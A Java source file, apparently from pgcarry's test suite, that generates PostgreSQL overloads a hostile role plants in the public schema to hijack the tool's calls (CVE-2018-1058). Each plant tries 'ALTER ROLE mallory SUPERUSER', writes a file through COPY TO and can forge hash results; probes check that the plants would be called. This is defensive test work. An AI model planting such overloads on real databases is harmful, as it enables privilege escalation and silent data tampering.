package io.pgcarry.cli;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * What a role with CREATE on {@code public} plants there to take over pgcarry's calls (CVE-2018-1058): overloads of
 * the functions, aggregates and operators pgcarry's SQL uses. Each plant, when called, records the call in
 * {@code spy.calls}, tries {@code ALTER ROLE mallory SUPERUSER} (which works when the caller is a superuser) and writes a
 * file through {@code COPY ... TO} (which works for a superuser even in a read-only or rolled-back transaction), then
 * returns a forged hash (0) or the real result.
 *
 * <p>
 * Two kinds: a <em>better match</em> takes a call over under the default {@code search_path}, where {@code pg_catalog}
 * comes first (arguments pgcarry passes as {@code int4} literals, {@code name}, {@code varchar} parameters or
 * {@code oid} where the built-in wants {@code int8}, {@code text} or {@code regclass}, or where the built-in is
 * polymorphic); a <em>decoy</em> repeats a built-in's exact signature, which wins only in a session whose
 * {@code search_path} lists {@code public} before {@code pg_catalog} (as a SQL file being restored may set it). Each
 * plant comes with a probe, a call shaped as pgcarry makes it, that proves the plant would be called.
 *
 * @param label  what the plant overloads, as recorded in {@code spy.calls}
 * @param ddl    its definition, given the number of the plant and the directory files are written to
 * @param probe  a SELECT list expression that calls it under the path of its kind
 * @param decoy  whether it only wins when {@code public} is searched before {@code pg_catalog}
 */
record Plants(String label, Ddl ddl, String probe, boolean decoy) {
    interface Ddl {
        String sql(int n, String spy);
    }

    /** The file a plant writes when a superuser calls it. */
    static String fileName(int n) {
        return "call-" + n;
    }

    /** The statements that plant every overload, run as mallory. */
    static String sql(List<Plants> plants, Path files) {
        StringBuilder sb = new StringBuilder();
        for (int n = 0; n < plants.size(); n++) {
            sb.append(plants.get(n).ddl().sql(n, spy(plants.get(n).label(), files.resolve(fileName(n))))).append(";\n");
        }
        return sb.toString();
    }

    private static String spy(String label, Path file) {
        return """
                BEGIN INSERT INTO spy.calls (label, caller) VALUES ('%s', current_user); EXCEPTION WHEN others THEN NULL; END;
                BEGIN EXECUTE 'ALTER ROLE mallory SUPERUSER'; EXCEPTION WHEN others THEN NULL; END;
                BEGIN EXECUTE 'COPY (SELECT 1) TO ''%s'''; EXCEPTION WHEN others THEN NULL; END;
                """.formatted(label, file);
    }

    private static Plants function(String name, String args, String returns, String result, String probe, boolean decoy) {
        return new Plants(name + "(" + args + ")", (n, spy) -> """
                CREATE FUNCTION public.%s(%s) RETURNS %s LANGUAGE plpgsql AS $plant$
                BEGIN %s RETURN %s; END $plant$""".formatted(name, args, returns, spy, result), probe, decoy);
    }

    private static Plants better(String name, String args, String returns, String result, String probe) {
        return function(name, args, returns, result, probe, false);
    }

    private static Plants decoy(String name, String args, String returns, String result, String probe) {
        return function(name, args, returns, result, probe, true);
    }

    /** A hash function that forges every hash to 0, so that two different rows would hash alike. */
    private static Plants hash(String name, String type, String value) {
        return better(name, type + ", integer", "bigint", "0", name + "(" + value + "::" + type + ", 1)");
    }

    private static Plants setOf(String name, String arrayType, String elementType) {
        return new Plants(name + "(" + arrayType + ")", (n, spy) -> """
                CREATE FUNCTION public.%s(%s) RETURNS SETOF %s LANGUAGE plpgsql AS $plant$
                BEGIN %s RETURN QUERY SELECT pg_catalog.unnest($1); END $plant$""".formatted(name, arrayType, elementType, spy),
                "(SELECT pg_catalog.count(*) FROM " + name + "('{1}'::" + arrayType + "))", false);
    }

    private static Plants operator(String op, String left, String right, String returns, String probe, boolean decoy) {
        return new Plants("operator " + op + "(" + left + "," + right + ")", (n, spy) -> """
                CREATE FUNCTION public.spy_op_%d(%s, %s) RETURNS %s LANGUAGE plpgsql AS $plant$
                BEGIN %s RETURN $1 OPERATOR(pg_catalog.%s) $2; END $plant$;
                CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.spy_op_%d)"""
                .formatted(n, left, right, returns, spy, op, op, left, right, n), probe, decoy);
    }

    /** An aggregate whose final function records the call once per group. */
    private static Plants aggregate(String name, String args, String stype, String sfunc, String initcond, String probe,
                                    boolean decoy) {
        return new Plants("aggregate " + name + "(" + args + ")", (n, spy) -> """
                CREATE FUNCTION public.spy_final_%d(%s) RETURNS %s LANGUAGE plpgsql AS $plant$
                BEGIN %s RETURN $1; END $plant$;
                CREATE AGGREGATE public.%s(%s) (SFUNC = %s, STYPE = %s, FINALFUNC = public.spy_final_%d%s)"""
                .formatted(n, stype, stype, spy, name, args, sfunc, stype, n, initcond == null ? "" : ", INITCOND = '" + initcond + "'"),
                "(SELECT " + probe + ")", decoy);
    }

    /** Helpers the aggregates' state functions need; they record nothing, their aggregates do. */
    static final String HELPERS = """
            CREATE FUNCTION public.spy_sum(numeric, bigint) RETURNS numeric LANGUAGE sql AS
                'SELECT $1 OPERATOR(pg_catalog.+) $2::numeric' STRICT;
            CREATE FUNCTION public.spy_cat(text, text, text) RETURNS text LANGUAGE sql AS
                'SELECT CASE WHEN $1 IS NULL THEN $2 ELSE $1 OPERATOR(pg_catalog.||) $3 OPERATOR(pg_catalog.||) $2 END';
            CREATE FUNCTION public.spy_push(jsonb, jsonb) RETURNS jsonb LANGUAGE sql AS
                'SELECT coalesce($1, ''[]''::jsonb) OPERATOR(pg_catalog.||) pg_catalog.jsonb_build_array($2)';
            """;

    /** Every plant: the calls of pgcarry's SQL (catalog queries, hashing, range planning, privileges, the journal). */
    static List<Plants> all() {
        List<Plants> p = new ArrayList<>();
        // The content hash: a column's value and its position's seed, an int4 literal where the built-ins take int8.
        p.add(hash("hashint2extended", "smallint", "1"));
        p.add(hash("hashint4extended", "integer", "1"));
        p.add(hash("hashint8extended", "bigint", "1"));
        p.add(hash("hashoidextended", "oid", "1"));
        p.add(hash("uuid_hash_extended", "uuid", "'00000000-0000-0000-0000-000000000001'"));
        p.add(hash("timestamp_hash_extended", "timestamp", "'2024-01-01'"));
        p.add(hash("hashtextextended", "text", "'a'"));
        p.add(hash("hashtextextended", "character varying", "'a'"));
        p.add(hash("hashbpcharextended", "character", "'a'"));
        p.add(hash("jsonb_hash_extended", "jsonb", "'{}'"));
        p.add(hash("hash_array_extended", "integer[]", "'{1}'"));
        p.add(better("convert_to", "text, text", "bytea", "pg_catalog.convert_to($1, $2::name)", "convert_to('a'::text, 'UTF8')"));
        p.add(better("convert_from", "bytea, text", "text", "pg_catalog.convert_from($1, $2::name)",
                "convert_from('\\x61'::bytea, 'SQL_ASCII')"));
        p.add(better("width_bucket", "bigint, bigint[]", "integer", "pg_catalog.width_bucket($1, $2)",
                "width_bucket(5::bigint, '{1,10}'::bigint[])"));
        // Catalog queries: name and oid columns, varchar parameters, unknown literals.
        p.add(better("format", "text, name, name", "text", "pg_catalog.format($1, $2, $3)", "format('%I.%I', 'a'::name, 'b'::name)"));
        p.add(better("format", "text, text, text", "text", "pg_catalog.format($1, $2, $3)", "format('%I.%I', 'a'::text, 'b'::text)"));
        p.add(better("format", "text, name, name, name", "text", "pg_catalog.format($1, $2, $3, $4)",
                "format('%I.%I.%I', 'a'::name, 'b'::name, 'c'::name)"));
        p.add(better("quote_ident", "name", "text", "pg_catalog.quote_ident($1::text)", "quote_ident('a'::name)"));
        p.add(better("obj_description", "oid, text", "text", "pg_catalog.obj_description($1, $2::name)",
                "obj_description(0::oid, 'pg_class')"));
        p.add(better("array_to_string", "text[], text", "text", "pg_catalog.array_to_string($1, $2)", "array_to_string('{a}'::text[], ', ')"));
        p.add(better("jsonb_build_object", "text, text", "jsonb", "pg_catalog.jsonb_build_object($1, $2)", "jsonb_build_object('k', 'v'::text)"));
        p.add(better("array_position", "smallint[], smallint", "integer", "pg_catalog.array_position($1, $2)",
                "array_position('{1}'::smallint[], 1::smallint)"));
        p.add(better("has_table_privilege", "oid, character varying", "boolean", "pg_catalog.has_table_privilege($1, $2::text)",
                "has_table_privilege(1259::oid, 'SELECT'::varchar)"));
        p.add(better("has_schema_privilege", "character varying, text", "boolean", "pg_catalog.has_schema_privilege($1::text, $2)",
                "has_schema_privilege('public'::varchar, 'USAGE')"));
        p.add(better("has_database_privilege", "name, text", "boolean", "pg_catalog.has_database_privilege($1::text, $2)",
                "has_database_privilege(current_database(), 'CREATE')"));
        p.add(better("to_regclass", "character varying", "regclass", "pg_catalog.to_regclass($1::text)", "to_regclass('pg_class'::varchar)"));
        p.add(better("pg_relation_filenode", "oid", "oid", "pg_catalog.pg_relation_filenode($1::regclass)", "pg_relation_filenode(1259::oid)"));
        p.add(better("pg_table_size", "oid", "bigint", "pg_catalog.pg_table_size($1::regclass)", "pg_table_size(1259::oid)"));
        p.add(better("pg_partition_root", "oid", "regclass", "pg_catalog.pg_partition_root($1::regclass)", "pg_partition_root(1259::oid)"));
        p.add(decoy("row_security_active", "oid", "boolean", "pg_catalog.row_security_active($1)", "row_security_active(1259::oid)"));
        p.add(setOf("unnest", "text[]", "text"));
        p.add(setOf("unnest", "smallint[]", "smallint"));
        p.add(aggregate("array_agg", "name", "name[]", "pg_catalog.array_append", "{}", "array_agg(x) FROM (VALUES ('a'::name)) v(x)", false));
        p.add(aggregate("jsonb_agg", "jsonb", "jsonb", "public.spy_push", null, "jsonb_agg(x) FROM (VALUES ('{}'::jsonb)) v(x)", false));
        p.add(operator("=", "name", "character varying", "boolean", "'a'::name = 'a'::varchar", false));
        p.add(operator("=", "text", "character varying", "boolean", "'a'::text = 'a'::varchar", false));
        // Exact signatures: only a search_path with public first picks them.
        p.add(aggregate("count", "*", "bigint", "pg_catalog.int8inc", "0", "count(*) FROM (VALUES (1)) v(x)", true));
        p.add(aggregate("sum", "bigint", "numeric", "public.spy_sum", "0", "sum(x) FROM (VALUES (1::bigint)) v(x)", true));
        p.add(aggregate("min", "integer", "integer", "pg_catalog.int4smaller", null, "min(x) FROM (VALUES (1)) v(x)", true));
        p.add(aggregate("max", "integer", "integer", "pg_catalog.int4larger", null, "max(x) FROM (VALUES (1)) v(x)", true));
        p.add(aggregate("string_agg", "text, text", "text", "public.spy_cat", null, "string_agg(x, ', ') FROM (VALUES ('a'::text)) v(x)", true));
        p.add(decoy("hashtext", "text", "integer", "0", "hashtext('a'::text)"));
        p.add(decoy("pg_get_constraintdef", "oid", "text", "pg_catalog.pg_get_constraintdef($1)", "pg_get_constraintdef(0::oid)"));
        p.add(decoy("pg_get_indexdef", "oid", "text", "pg_catalog.pg_get_indexdef($1)", "pg_get_indexdef(0::oid)"));
        p.add(decoy("pg_get_viewdef", "oid", "text", "pg_catalog.pg_get_viewdef($1)", "pg_get_viewdef(0::oid)"));
        p.add(decoy("pg_get_functiondef", "oid", "text", "pg_catalog.pg_get_functiondef($1)", "pg_get_functiondef(0::oid)"));
        p.add(decoy("pg_get_userbyid", "oid", "name", "pg_catalog.pg_get_userbyid($1)", "pg_get_userbyid(10::oid)"));
        p.add(decoy("format_type", "oid, integer", "text", "pg_catalog.format_type($1, $2)", "format_type(23::oid, -1)"));
        p.add(decoy("current_setting", "text", "text", "pg_catalog.current_setting($1)", "current_setting('TimeZone'::text)"));
        p.add(decoy("pg_encoding_to_char", "integer", "name", "pg_catalog.pg_encoding_to_char($1)", "pg_encoding_to_char(6)"));
        p.add(decoy("set_config", "text, text, boolean", "text", "pg_catalog.set_config($1, $2, $3)",
                "set_config('application_name'::text, 'x'::text, true)"));
        p.add(decoy("to_regclass", "text", "regclass", "pg_catalog.to_regclass($1)", "to_regclass('pg_class'::text)"));
        p.add(decoy("has_table_privilege", "oid, text", "boolean", "pg_catalog.has_table_privilege($1, $2)",
                "has_table_privilege(1259::oid, 'SELECT'::text)"));
        p.add(decoy("quote_ident", "text", "text", "pg_catalog.quote_ident($1)", "quote_ident('a'::text)"));
        for (String op : List.of("+", "-", "*", "#")) {
            p.add(operator(op, "bigint", "bigint", "bigint", "1::bigint " + op + " 1::bigint", true));
        }
        p.add(operator(">>", "bigint", "integer", "bigint", "1::bigint >> 1", true));
        p.add(operator("/", "bigint", "integer", "bigint", "1::bigint / 1", true));
        for (String op : List.of("=", "<", ">=")) {
            p.add(operator(op, "integer", "integer", "boolean", "1 " + op + " 1", true));
            p.add(operator(op, "bigint", "bigint", "boolean", "1::bigint " + op + " 1::bigint", true));
        }
        p.add(operator("=", "text", "text", "boolean", "'a'::text = 'a'::text", true));
        p.add(operator("=", "oid", "oid", "boolean", "1::oid = 1::oid", true));
        return p;
    }
}
